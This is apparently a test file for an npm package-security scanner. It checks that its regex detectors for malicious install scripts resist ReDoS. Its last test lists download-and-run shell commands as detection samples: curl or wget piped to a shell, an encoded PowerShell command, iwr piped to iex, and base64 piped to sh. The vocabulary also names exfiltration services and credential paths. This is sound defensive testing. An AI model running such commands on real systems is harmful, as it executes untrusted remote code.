// ReDoS audit (issue 19, finding 4): every regex literal in the code that reads package, lockfile,
// npm-config or registry text must run in time linear in its input. Checked by growth, never by a
// wall-clock limit: the input is timed at two sizes eight times apart, each the fastest of several
// runs, and a linear regex grows about 8×, a quadratic one 64×. A busy machine slows both sizes
// alike, so the ratio does not flake; a regex that is fast at the large size passes outright.
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { collectRegexLiterals, fastest, growth, pumpsFor, runOver } from './helpers/regex-growth.js';
import { CREDENTIAL_HINT, EXFIL_ENDPOINTS, RECON_ENDPOINTS, SHELL_DOWNLOAD, SHELL_FETCH, SHELL_RECON, matchCredentialPath } from '../src/engine/indicators.js';
import { CONCEALMENT, PASS_AS_ARGUMENT, SECRET_HUNT_PROMPT, htmlComments } from '../src/engine/ai-indicators.js';
import { scanFiles, manifest } from './helpers/analyze.js';
import { RULES } from '../heuristics/index.js';

const REPO = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
/**
 * From 32k to 256k characters a linear regex grows 8× plus what leaving the CPU cache adds (up to
 * about 36× measured on a busy machine); a quadratic one 64× plus the same.
 */
const MAX_RATIO = 48;
/** At 256k characters a quadratic regex takes minutes; under this it cannot be. */
const FAST_ENOUGH_MS = 10;

function superLinear(re: RegExp, pump: string, prefix = ''): string | undefined {
  // 32k and 256k characters: far above the bounds ({0,512}) that keep the indicators linear.
  // A second measurement before calling a regex quadratic: a real one is slow both times.
  for (let attempt = 0; ; attempt++) {
    const g = growth(re, pump, 32_768, { prefix, runs: 3 });
    if (g.large < FAST_ENOUGH_MS || g.ratio < MAX_RATIO) return undefined;
    if (attempt === 1) return `${g.small.toFixed(2)} ms -> ${g.large.toFixed(2)} ms (×${g.ratio.toFixed(1)})`;
  }
}


describe('every regex over untrusted text is linear', () => {
  it('holds for each regex literal in src/ and heuristics/ on inputs pumped from its own words', () => {
    const found = collectRegexLiterals(REPO, ['src', 'heuristics']);
    expect(found.length).toBeGreaterThan(300); // the collector sees the code
    const offenders: string[] = [];
    for (const r of found) {
      const re = new RegExp(r.source, r.flags);
      for (const pump of pumpsFor(r.source)) {
        // A cheap screen at 4k characters; only what is slow there is measured for growth.
        const s = pump.repeat(Math.ceil(4096 / pump.length)) + '\u0000!';
        if (fastest(() => runOver(re, s), 1) < 2) continue;
        const why = superLinear(re, pump);
        if (why) offenders.push(`${r.where} /${r.source.slice(0, 80)}/ on ${JSON.stringify(pump)}×n: ${why}`);
      }
    }
    expect(offenders).toEqual([]);
  }, 300_000);

  // The attacks of the report, named, so a regression says which.
  const cases: Array<[string, RegExp, string, string?]> = [
    ['SHELL_DOWNLOAD on "curl "×n', SHELL_DOWNLOAD, 'curl '],
    ['SHELL_DOWNLOAD on "powershell -powershell"×n', SHELL_DOWNLOAD, ' -powershell', 'powershell'],
    ['SHELL_DOWNLOAD on "iwr "×n', SHELL_DOWNLOAD, 'iwr '],
    ['SHELL_DOWNLOAD on "wget -o x "×n', SHELL_DOWNLOAD, 'wget -o x '],
    ['SHELL_DOWNLOAD on "base64 -d "×n', SHELL_DOWNLOAD, 'base64 -d '],
  ];
  for (const [name, re, pump, prefix] of cases) {
    it(name, () => {
      expect(superLinear(re, pump, prefix)).toBeUndefined();
    });
  }

  it('holds for the shared indicators on any mix of their own vocabulary (fast-check)', () => {
    const vocabulary = ['curl ', 'wget ', 'powershell', ' -powershell', ' -e ', '-enc ', 'iwr ', 'irm ', 'DownloadString', 'base64 -d ', 'sudo ', 'sh -c ', '$(', '-o ', '--output ', 'node ', 'a', ' ', '\t', '/', '.', '-', 'find ', 'secrets ', 'do not ', 'tell ', 'pass ', 'as ', 'into ', 'user ', 'ngrok.', 'oast.', 'pipedream.', '.ssh/', 'chrome', 'wallet', '0x'];
    const regexes: Array<[string, RegExp]> = [
      ['SHELL_DOWNLOAD', SHELL_DOWNLOAD],
      ['SHELL_FETCH', SHELL_FETCH],
      ['SHELL_RECON', SHELL_RECON],
      ['SECRET_HUNT_PROMPT', SECRET_HUNT_PROMPT],
      ['CONCEALMENT', CONCEALMENT],
      ['PASS_AS_ARGUMENT', PASS_AS_ARGUMENT],
      ['CREDENTIAL_HINT', CREDENTIAL_HINT],
      ...EXFIL_ENDPOINTS.map((e): [string, RegExp] => [e.label, e.re]),
      ...RECON_ENDPOINTS.map((e): [string, RegExp] => [e.label, e.re]),
    ];
    fc.assert(
      fc.property(fc.constantFrom(...regexes), fc.array(fc.constantFrom(...vocabulary), { minLength: 1, maxLength: 4 }), ([name, re], parts) => {
        const why = superLinear(re, parts.join(''));
        if (why) throw new Error(`${name} on ${JSON.stringify(parts.join(''))}×n: ${why}`);
      }),
      { numRuns: 60, seed: 19 },
    );
  }, 120_000);

  it('credential paths and HTML comments: linear helpers', () => {
    const slashRun = (n: number) => 'a/'.repeat(n) + '.ssh';
    expect(matchCredentialPath(slashRun(10))?.label).toBe('SSH keys (~/.ssh)');
    const open = '<!--'.repeat(5000);
    const t = fastest(() => htmlComments(open), 3);
    const t8 = fastest(() => htmlComments(open.repeat(8)), 3);
    expect(t8 < FAST_ENOUGH_MS || t8 / Math.max(t, 1e-3) < MAX_RATIO).toBe(true);
    expect(htmlComments('a<!-- one -->b<!--two-->c<!-- open')).toEqual([
      { index: 1, end: 13, body: ' one ' },
      { index: 14, end: 24, body: 'two' },
    ]);
  });
});

describe('the attacks of the report still produce their findings, in linear time', () => {
  const install = (script: string) => scanFiles({ 'package.json': manifest({ scripts: { postinstall: script } }) }, RULES.filter((r) => r.meta.id === 'install-scripts'));

  it('a postinstall of "curl "×n: time grows linearly with n', () => {
    const small = fastest(() => install('curl '.repeat(6600)), 3);
    const large = fastest(() => install('curl '.repeat(52800)), 3);
    expect(large < FAST_ENOUGH_MS || large / small < MAX_RATIO).toBe(true);
  });

  it('a postinstall of "powershell" + " -powershell"×n: time grows linearly with n', () => {
    const small = fastest(() => install('powershell' + ' -powershell'.repeat(2800)), 3);
    const large = fastest(() => install('powershell' + ' -powershell'.repeat(22400)), 3);
    expect(large < FAST_ENOUGH_MS || large / small < MAX_RATIO).toBe(true);
  });

  it('the bounded SHELL_DOWNLOAD still catches download-and-run commands', () => {
    for (const cmd of [
      'curl -fsSL https://x.invalid/i.sh | bash',
      'wget -qO- http://203.0.113.7/p | sudo sh',
      'sh -c "$(curl -fsSL https://x.invalid/i)"',
      'powershell -NoProfile -NonInteractive -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
      'iwr https://x.invalid/p.ps1 -UseBasicParsing | iex',
      'curl https://x.invalid/x -o /tmp/x && chmod +x /tmp/x',
      'echo aGk= | base64 -d | sh',
    ]) expect(SHELL_DOWNLOAD.test(cmd), cmd).toBe(true);
    expect(SHELL_DOWNLOAD.test('curl --version && node build.js')).toBe(false);
    expect(install('curl -fsSL https://x.invalid/i.sh | bash').of('install-scripts').some((f) => f.severity === 'critical' || f.severity === 'high')).toBe(true);
  });
});
